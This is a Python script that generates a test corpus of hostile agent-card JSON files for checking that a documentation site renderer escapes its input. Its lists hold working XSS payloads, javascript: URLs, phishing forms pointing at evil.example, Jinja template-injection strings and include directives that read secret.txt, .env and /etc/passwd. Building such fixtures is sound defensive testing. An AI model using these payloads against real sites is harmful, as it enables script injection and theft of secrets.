"""Write the hostile card corpus: cards whose every field is an attack on the rendered site, plus malformed files.

Run ``python tests/data/hostile/make_hostile.py`` to regenerate the ``*.json`` files beside this script
(deterministic: the output is committed and a test checks it is up to date). The tests import this module
for the lists below (which payloads exist, which files must be excluded).

Families:
    01 raw HTML and event handlers      02 URL schemes, in every URL field
    03 Markdown block and inline syntax 04 title breakouts and DOM-clobbering ids
    05 build-time includes, Jinja (any delimiters), critic marks, a site hook's own syntax
    06 path-like ids
    07 Unicode tricks                   08 mkdocs-material look-alike widgets
    09 wrong JSON types everywhere      malformed/ files that are not a card at all
"""

from __future__ import annotations

import codecs
import json
import sys
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent

CANARY = "CANARY-7f3d1c0e-do-not-publish"
"""Written into ``secret.txt`` and ``.env`` of a test project; must never appear in a built site."""

JINJA_MARKERS = ("7777", "LOOPLOOP", "JINJA-RAN")
"""What the output would contain if any Jinja payload below were evaluated."""

RAW_HTML = [
    "<script>alert('raw')</script>",
    "<img src=x onerror=alert('img')>",
    '<img src="x" onerror="alert(1)">',
    "<svg/onload=alert('svg')>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert('toggle')><summary>s</summary></details>",
    "<a href=javascript:alert('a')>click</a>",
    "<style>*{visibility:hidden}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input type=password name=pw><button>Log in</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<textarea>",
    "<!-- open comment",
    "<![CDATA[ <script>alert(1)</script> ]]>",
    "<x-agent onclick=alert(1)>custom</x-agent>",
    "\\<script>alert('bs')\\</script>",
    "&lt;script&gt;alert('entity')&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=`x` onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

URLS = [
    "javascript:alert('url')",
    "JavaScript:alert(1)",
    "  javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "javascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "ms-msdt:/id PCWDiagnostic",
    "https://trusted.example@evil.example/",
    'https://ok.example/"onmouseover="alert(1)',
    "https://ok.example/' onmouseover='alert(1)",
    "https://ok.example/) [spoof](https://evil.example/",
    "https://ok.example/<script>alert(1)</script>",
    "https://ok.example/{{ 1111*7 }}",
    "https://exa mple.example/",
    "https://example.com/\u202e/gnp.exe",
    "//evil.example/protocol-relative",
    "HTTPS://EXAMPLE.COM/%0d%0aSet-Cookie:x=y",
    "http://[::1]:99999/",
    "<javascript:alert(1)>",
    "https://ok.example/" + "a" * 2049,
]

MARKDOWN = [
    "# Injected H1",
    "## Skill: Injected H2",
    "Setext\n======",
    "Setext\n------",
    "---",
    "> quoted\n> lines",
    "    indented code",
    "1. one\n2. two",
    "- [x] done\n- [ ] todo",
    "a | b | c\n--|--|--\n1 | 2 | 3",
    "cell | breaks | out",
    "row\n\n# heading after blank line",
    "*emphasis* **strong** _under_ __dunder__ ~~strike~~",
    "[link text](https://evil.example/)",
    "x](javascript:alert(1)) [y",
    "[ref][r]\n\n[r]: javascript:alert('ref')",
    "![pixel](https://evil.example/track.png)",
    "`code` ``double`` `unclosed",
    "a` <img src=x onerror=alert('span')> `b",
    "x\n```\n<script>alert('fence')</script>\n```",
    "x\n````\n~~~\n# after fence",
    "[TOC]",
    "*[HTML]: <img src=x onerror=alert('abbr')>\n\nHTML",
    "Note[^1]\n\n[^1]: <img src=x onerror=alert('footnote')>",
    "Term\n:   Definition",
    "Click\n{: onclick=\"alert('attr')\" }",
    '[ok](https://ok.example/){: href="javascript:alert(1)" onclick="alert(1)" }',
    '![i](https://ok.example/a.png){: onerror="alert(1)" }',
    'Overlay\n{: style="position:fixed;inset:0;background:red" }',
    '<div markdown="1" onclick="alert(\'md\')">**bold**</div>',
    "trailing backslash \\",
    "\\",
    "&",
    "&amp;lt;b&amp;gt;",
    "<",
    "*",
    "_",
]

TITLES = [
    "</title><script>alert('title')</script>",
    "&lt;/title&gt;&lt;script&gt;alert('title-entity')&lt;/script&gt;",
    "&#60;/title&#62;&#60;script&#62;alert(1)&#60;/script&#62;",
    "\"><script>alert('attr')</script>",
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "`</title><script>alert(1)</script>`",
    "__config",
    "__search",
    "__drawer",
    "__toc",
    "__consent",
    "mkdocs-search-results",
    "mkdocs_search_modal",
    "search",
    "top",
    "content",
    "Home",
    "Title {: #__config }",
]

INCLUDES_AND_JINJA = [
    '--8<-- "secret.txt"',
    '--8<-- ".env"',
    '--8<-- "mkdocs.yml"',
    '--8<-- "cards/../secret.txt"',
    "--8<--\nsecret.txt\n--8<--",
    '-8<- "secret.txt"',
    ';--8<-- "secret.txt"',
    '--8<-- "/etc/passwd"',
    '--8<-- "../../../../etc/passwd"',
    '```\n--8<-- "secret.txt"\n```',
    "{{ 1111*7 }}",
    "{{1111*7}}",
    "{%raw%}{{ 1111*7 }}{%endraw%}",
    "{% for x in range(2) %}LOOP{% endfor %}",
    "{# comment #}{{ '%s-%s'|format('JINJA', 'RAN') }}",
    "{{ config }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').getcwd() }}",
    "{{ cycler.__init__.__globals__.os.environ }}",
    "{% include 'mkdocs.yml' %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{!secret.txt!}",
    "{!/proc/self/environ!}",
    "@@include secret.txt@@",
    "@@include .env@@",
    "[[ 1111*7 ]]",
    "[% for x in range(2) %]LOOP[% endfor %]",
    "<< 1111*7 >>",
    "<% for x in range(2) %>LOOP<% endfor %>",
    "{-- the rest of this page is deleted",
    "until here --}",
    "{++ added ++} {~~ old ~> new ~~} {== marked ==} {>> comment <<}",
]

PATH_IDS = [
    "../x",
    "../../../../tmp/escaped",
    "/etc/passwd",
    "C:\\Windows\\system.ini",
    "a/b/c",
    "a\\b",
    "CON",
    "con.json",
    "NUL",
    "aux",
    "index",
    "agents",
    "..",
    ".",
    ".hidden",
    "",
    "   ",
    "x" * 300,
    "café",  # NFC
    "cafe\u0301",  # NFD twin of the one above
    "Case",
    "case",
    "tab\there",
    "nul\x00byte",
    "question?mark#hash",
    "space and %20 percent",
]

UNICODE = [
    "Safe\u202egnp.exe",
    "\u2066isolate\u2069 \u200fRTL mark\u200e",
    "zero\u200bwidth\u200c\u200djoin\ufeffbom",
    "line\u2028separator\u2029paragraph\x85next",
    "vertical\vtab\fform",
    "bell\x07escape\x1b[31mred\x1b[0m",
    "\ud800 lone high surrogate",
    "lone low \udfff surrogate",
    "\ud83d\ude00 paired surrogates",
    "tags \U000e0041\U000e0042 hidden",
    "combining a\u0301\u0302\u0303\u0304\u0305\u0306\u0307",
    "Pаypal (Cyrillic а)",
    "ﬁ ligature Ｆｕｌｌｗｉｄｔｈ",
    "\u00a0non-breaking\u3000ideographic space",
    "𝕄𝕒𝕥𝕙 𝒔𝒄𝒓𝒊𝒑𝒕",
    "\ufffd replacement",
    "\U0010ffff last code point",
]

SPOOFING = [
    '!!! danger "Official security notice"\n    Send your API key to https://evil.example/',
    '??? note "Expand"\n    hidden',
    '???+ warning "Open"\n    shown',
    '=== "Tab one"\n    first\n=== "Tab two"\n    second',
    ":material-check-decagram: Verified publisher",
    ":octicons-verified-16: :white_check_mark:",
    "++ctrl+alt+del++ ==marked== ~~deleted~~ ^^inserted^^ H~2~O",
    "$E=mc^2$ and $$\\frac{1}{0}$$",
    "\\(x\\) \\[y\\]",
    "www.evil.example https://evil.example/login @admin #1 user/repo#2",
    "(c) (tm) (r) --> <-- +/- 1/2",
    "Write to security@evil.example :rotating_light: :+1: or ops@evil.example (c",
    "- [x] Verified by a2a-docgen",
    "<kbd>Enter</kbd> to confirm",
]

FAMILY_PAYLOADS: dict[str, list[str]] = {
    "01-raw-html": RAW_HTML,
    "02-url-schemes": URLS,
    "03-markdown-structure": MARKDOWN,
    "04-title-and-dom": TITLES,
    "05-snippets-and-jinja": INCLUDES_AND_JINJA,
    "06-path-ids": PATH_IDS,
    "07-unicode": UNICODE,
    "08-material-spoofing": SPOOFING,
}

ALL_PAYLOADS: list[str] = [p for family in FAMILY_PAYLOADS.values() for p in family]


def oauth_scheme(description: str, url: str, scopes: dict[str, str]) -> dict[str, object]:
    return {
        "oauth2SecurityScheme": {
            "description": description,
            "oauth2MetadataUrl": url,
            "flows": {
                "authorizationCode": {
                    "authorizationUrl": url,
                    "tokenUrl": url,
                    "refreshUrl": url,
                    "scopes": scopes,
                    "pkceRequired": True,
                }
            },
        }
    }


def card(
    family: str, title: str, payloads: list[str], *, url_payloads: list[str] | None = None
) -> dict[str, object]:
    """A v1.0 card with one payload in every string field and one skill per payload.

    Skill ids are the payload itself, made unique by an ordinal (except in the path-id family, where the
    id *is* the payload). URL fields carry ``url_payloads`` (default: the URL family) in rotation.
    """
    urls = url_payloads or URLS

    def url(n: int) -> str:
        return urls[n % len(urls)]

    def text(n: int) -> str:
        return payloads[n % len(payloads)]

    skills = []
    for n, payload in enumerate(payloads):
        skill_id = payload if family == "06-path-ids" else f"{payload} #{n}"
        skills.append(
            {
                "id": skill_id,
                "name": payload or f"empty {n}",
                "description": payload,
                "tags": [payload],
                "examples": [payload, json.dumps({"query": payload, "n": n})],
                "inputModes": [payload if "/" in payload else "text/plain"],
                "outputModes": ["text/plain", text(n + 1)],
                "securityRequirements": [{"schemes": {text(n): {"list": [text(n + 2)]}}}],
            }
        )
    scopes = {text(n): text(n + 1) for n in range(min(len(payloads), 6))}
    return {
        "name": title,
        "description": "\n\n".join(payloads),
        "version": text(1),
        "supportedInterfaces": [
            {
                "url": url(n),
                "protocolBinding": text(n) or "JSONRPC",
                "protocolVersion": "1.0",
                "tenant": text(n),
            }
            for n in range(len(urls) if family == "02-url-schemes" else 3)
        ],
        "provider": {"organization": text(2), "url": url(3)},
        "documentationUrl": url(4),
        "iconUrl": url(5),
        "capabilities": {
            "streaming": True,
            "pushNotifications": False,
            "extensions": [
                {"uri": url(6), "description": text(3), "required": False, "params": {text(4): text(5)}}
            ],
        },
        "securitySchemes": {
            text(0): oauth_scheme(text(6), url(7), scopes),
            "oidc": {"openIdConnectSecurityScheme": {"description": text(7), "openIdConnectUrl": url(8)}},
            "key": {"apiKeySecurityScheme": {"description": text(8), "location": "header", "name": text(9)}},
            "bearer": {
                "httpAuthSecurityScheme": {
                    "description": text(10),
                    "scheme": text(11),
                    "bearerFormat": text(12),
                }
            },
            "mtls": {"mtlsSecurityScheme": {"description": text(13)}},
        },
        "securityRequirements": [{"schemes": {text(0): {"list": [text(1)]}}}, {"schemes": {"mtls": {}}}],
        "defaultInputModes": ["text/plain", text(14)],
        "defaultOutputModes": ["application/json", text(15)],
        "skills": skills,
    }


def type_confusion() -> dict[str, object]:
    """Valid JSON, wrong types everywhere; the name is a string so the card itself is documented."""
    return {
        "name": "Type confusion <b>agent</b>",
        "description": {"html": "<script>alert(1)</script>"},
        "version": 1.5,
        "supportedInterfaces": {"url": "javascript:alert(1)"},
        "provider": ["<img src=x onerror=alert(1)>"],
        "documentationUrl": ["javascript:alert(1)"],
        "iconUrl": 42,
        "capabilities": {"streaming": "true", "pushNotifications": None, "extensions": "none"},
        "securitySchemes": ["<script>alert(1)</script>"],
        "securityRequirements": {"schemes": "x"},
        "defaultInputModes": "text/plain",
        "defaultOutputModes": [1, None, {"a": "<script>"}],
        "skills": [
            None,
            "<img src=x onerror=alert('skill-string')>",
            {"id": 7, "name": ["<script>"], "description": None, "tags": "<b>tag</b>", "examples": {"a": 1}},
            {
                "id": "ok",
                "name": "Skill with <i>odd</i> types",
                "description": True,
                "tags": [None, 1, "<img src=x onerror=alert(1)>"],
                "examples": [{"text": "<script>alert(1)</script>"}, ["nested"], "fine"],
                "inputModes": "text/plain",
                "outputModes": None,
            },
        ],
        "signatures": [{"protected": 5, "signature": ["x"], "header": "<script>"}],
    }


def _nested(depth: int) -> bytes:
    return b'{"name": "deep", "x": ' + b"[" * depth + b"]" * depth + b"}"


def _json(value: object) -> bytes:
    try:
        return json.dumps(value, indent=2, ensure_ascii=False).encode("utf-8") + b"\n"
    except UnicodeEncodeError:  # lone surrogates: only a \u escape can carry them
        return json.dumps(value, indent=2).encode("ascii") + b"\n"


MINIMAL = {
    "name": "Minimal <b>agent</b>",
    "description": "d",
    "version": "1.0.0",
    "supportedInterfaces": [
        {"url": "https://a.example/", "protocolBinding": "JSONRPC", "protocolVersion": "1.0"}
    ],
    "capabilities": {},
    "defaultInputModes": ["text/plain"],
    "defaultOutputModes": ["text/plain"],
    "skills": [{"id": "s", "name": "S", "description": "d", "tags": ["t"]}],
}

MALFORMED: dict[str, Callable[[], bytes]] = {
    "invalid-syntax.json": lambda: b'{"name": "<script>alert(1)</script>", description: "unquoted key"}\n',
    "truncated.json": lambda: _json(MINIMAL)[:60],
    "bom-utf8.json": lambda: codecs.BOM_UTF8 + _json(MINIMAL | {"name": "BOM <script>alert(1)</script>"}),
    "utf16le-bom.json": lambda: codecs.BOM_UTF16_LE + _json(MINIMAL).decode("utf-8").encode("utf-16-le"),
    "utf16be-nobom.json": lambda: _json(MINIMAL).decode("utf-8").encode("utf-16-be"),
    "invalid-utf8.json": lambda: b'{"name": "bad \xff\xfe bytes \xc3\x28", "description": "d"}\n',
    "duplicate-keys.json": lambda: (
        b'{"name": "Good agent", "name": "<script>alert(\'dup\')</script>", "skills": []}\n'
    ),
    "deeply-nested.json": lambda: _nested(100_000),
    "nested-900.json": lambda: _nested(900),
    "nan-infinity.json": lambda: b'{"name": "NaN agent", "version": NaN, "x": Infinity, "y": -Infinity}\n',
    "huge-int.json": lambda: b'{"name": "Huge", "version": ' + b"9" * 5000 + b"}\n",
    "lone-surrogate.json": lambda: b'{"name": "Lone \\ud800 surrogate <script>", "description": "\\udfff"}\n',
    "empty.json": lambda: b"",
    "whitespace-only.json": lambda: b" \n\t\r\n",
    "top-level-array.json": lambda: b'[{"name": "in an array"}]\n',
    "top-level-null.json": lambda: b"null\n",
    "top-level-string.json": lambda: b'"<script>alert(1)</script>"\n',
    "trailing-garbage.json": lambda: _json(MINIMAL) + b"<script>alert('trailing')</script>\n",
    "two-documents.json": lambda: _json(MINIMAL) + _json(MINIMAL),
    "nul-bytes.json": lambda: b'{"name": "nul\x00 in raw text"}\n',
    "string-holding-deep-json.json": lambda: _json(
        MINIMAL
        | {
            "skills": [
                {
                    "id": "s",
                    "name": "S",
                    "description": "d",
                    "tags": ["t"],
                    "examples": ["[" * 10_000 + "]" * 10_000],
                }
            ]
        }
    ),
}

MUST_BE_EXCLUDED = frozenset(MALFORMED) - {
    "bom-utf8.json",
    "lone-surrogate.json",
    "string-holding-deep-json.json",
}
"""Malformed files that can never become a card (the others may load, with diagnostics)."""


def outputs() -> dict[str, bytes]:
    """Every file of the corpus, by path relative to this directory."""
    files: dict[str, bytes] = {}
    titles = {
        "01-raw-html": RAW_HTML[1],
        "02-url-schemes": "URL schemes <a href=javascript:alert(1)>x</a>",
        "03-markdown-structure": "# Markdown | structure\n===",
        "04-title-and-dom": TITLES[0],
        "05-snippets-and-jinja": '{{ 1111*7 }} --8<-- "secret.txt"',
        "06-path-ids": "../../etc/passwd",
        "07-unicode": UNICODE[0],
        "08-material-spoofing": ":material-check-decagram: Verified ==official==",
    }
    for family, payloads in FAMILY_PAYLOADS.items():
        # every URL field of the URL family carries a URL payload; the others still get hostile URLs
        files[f"{family}.json"] = _json(card(family, titles[family], payloads))
    files["09-type-confusion.json"] = _json(type_confusion())
    for name, make in MALFORMED.items():
        files[f"malformed/{name}"] = make()
    return files


BENIGN_TEXT = [
    "Plans journeys",
    "Line one\nline two",
    "First paragraph.\n\nSecond paragraph, with a comma; and more.",
    "text/plain",
    "maps",
    "Check the weather in Paris tomorrow",
]
BENIGN_URLS = ["https://example.com/a2a", "https://docs.example.com/agent", "https://example.com/icon.png"]


def benign_outputs() -> dict[str, bytes]:
    """Cards with ordinary text: one shaped like the hostile ones (same fields, skills, schemes), a valid
    v1.0 card with every core binding, and the minimal card.

    Not part of the corpus: tests build it beside the corpus to learn which page structure the renderer
    makes from ordinary cards, and check that the hostile cards make nothing else.
    """
    valid = {
        "name": "Weather Desk",
        "description": "Answers questions about the weather.\n\nForecasts come from public data.",
        "version": "1.2.0",
        "supportedInterfaces": [
            {
                "url": "https://weather.example.com/a2a",
                "protocolBinding": "JSONRPC",
                "protocolVersion": "1.0",
            },
            {
                "url": "https://weather.example.com/rest",
                "protocolBinding": "HTTP+JSON",
                "protocolVersion": "1.0",
            },
            {"url": "weather.example.com:443", "protocolBinding": "GRPC", "protocolVersion": "1.0"},
        ],
        "provider": {"organization": "Example Weather Ltd", "url": "https://weather.example.com"},
        "documentationUrl": "https://weather.example.com/docs",
        "capabilities": {"streaming": True, "pushNotifications": False},
        "securitySchemes": {
            "bearer": {"httpAuthSecurityScheme": {"scheme": "Bearer", "bearerFormat": "JWT"}},
            "oauth": oauth_scheme("Sign in", "https://auth.example.com/authorize", {"forecast:read": "Read"}),
        },
        "securityRequirements": [
            {"schemes": {"bearer": {}}},
            {"schemes": {"oauth": {"list": ["forecast:read"]}}},
        ],
        "defaultInputModes": ["text/plain", "application/json"],
        "defaultOutputModes": ["text/plain"],
        "skills": [
            {
                "id": "forecast",
                "name": "Forecast",
                "description": "Gives the forecast for a city.",
                "tags": ["weather", "forecast"],
                "examples": ["Will it rain in Paris tomorrow?", '{"city": "Paris", "days": [1, 2]}'],
            },
            {
                "id": "alerts",
                "name": "Alerts",
                "description": "Lists weather alerts.",
                "tags": ["weather"],
                "examples": ["Any storm warnings?"],
                "outputModes": ["application/json"],
                "securityRequirements": [{"schemes": {"oauth": {"list": ["forecast:read"]}}}],
            },
            {
                "id": "stations",
                "name": "Station data",
                "description": "Readings of one weather station.",
                "tags": ["weather"],
                # A text example for a JSON-only skill: the page notes that the agent may refuse it.
                "examples": ["Readings at Brest", '{"station": "07110"}'],
                "inputModes": ["application/json"],
            },
        ],
        # A signed card (its signature does not verify without keys): the page's Signature fact and section.
        "signatures": [
            {
                # {"alg":"ES256","kid":"weather-key-1","typ":"JOSE"}, base64url
                "protected": "eyJhbGciOiJFUzI1NiIsImtpZCI6IndlYXRoZXIta2V5LTEiLCJ0eXAiOiJKT1NFIn0",
                "signature": "c2lnbmF0dXJl",
            }
        ],
    }
    return {
        "benign.json": _json(card("benign", "Benign agent", BENIGN_TEXT, url_payloads=BENIGN_URLS)),
        "weather-desk.json": _json(valid),
        "minimal.json": _json(MINIMAL | {"name": "Minimal agent"}),
    }


def main(argv: list[str] | None = None) -> int:
    """Write the corpus beside this script (or into ``argv[0]``)."""
    target = Path(argv[0]) if argv else HERE
    for relpath, data in sorted(outputs().items()):
        path = target / relpath
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
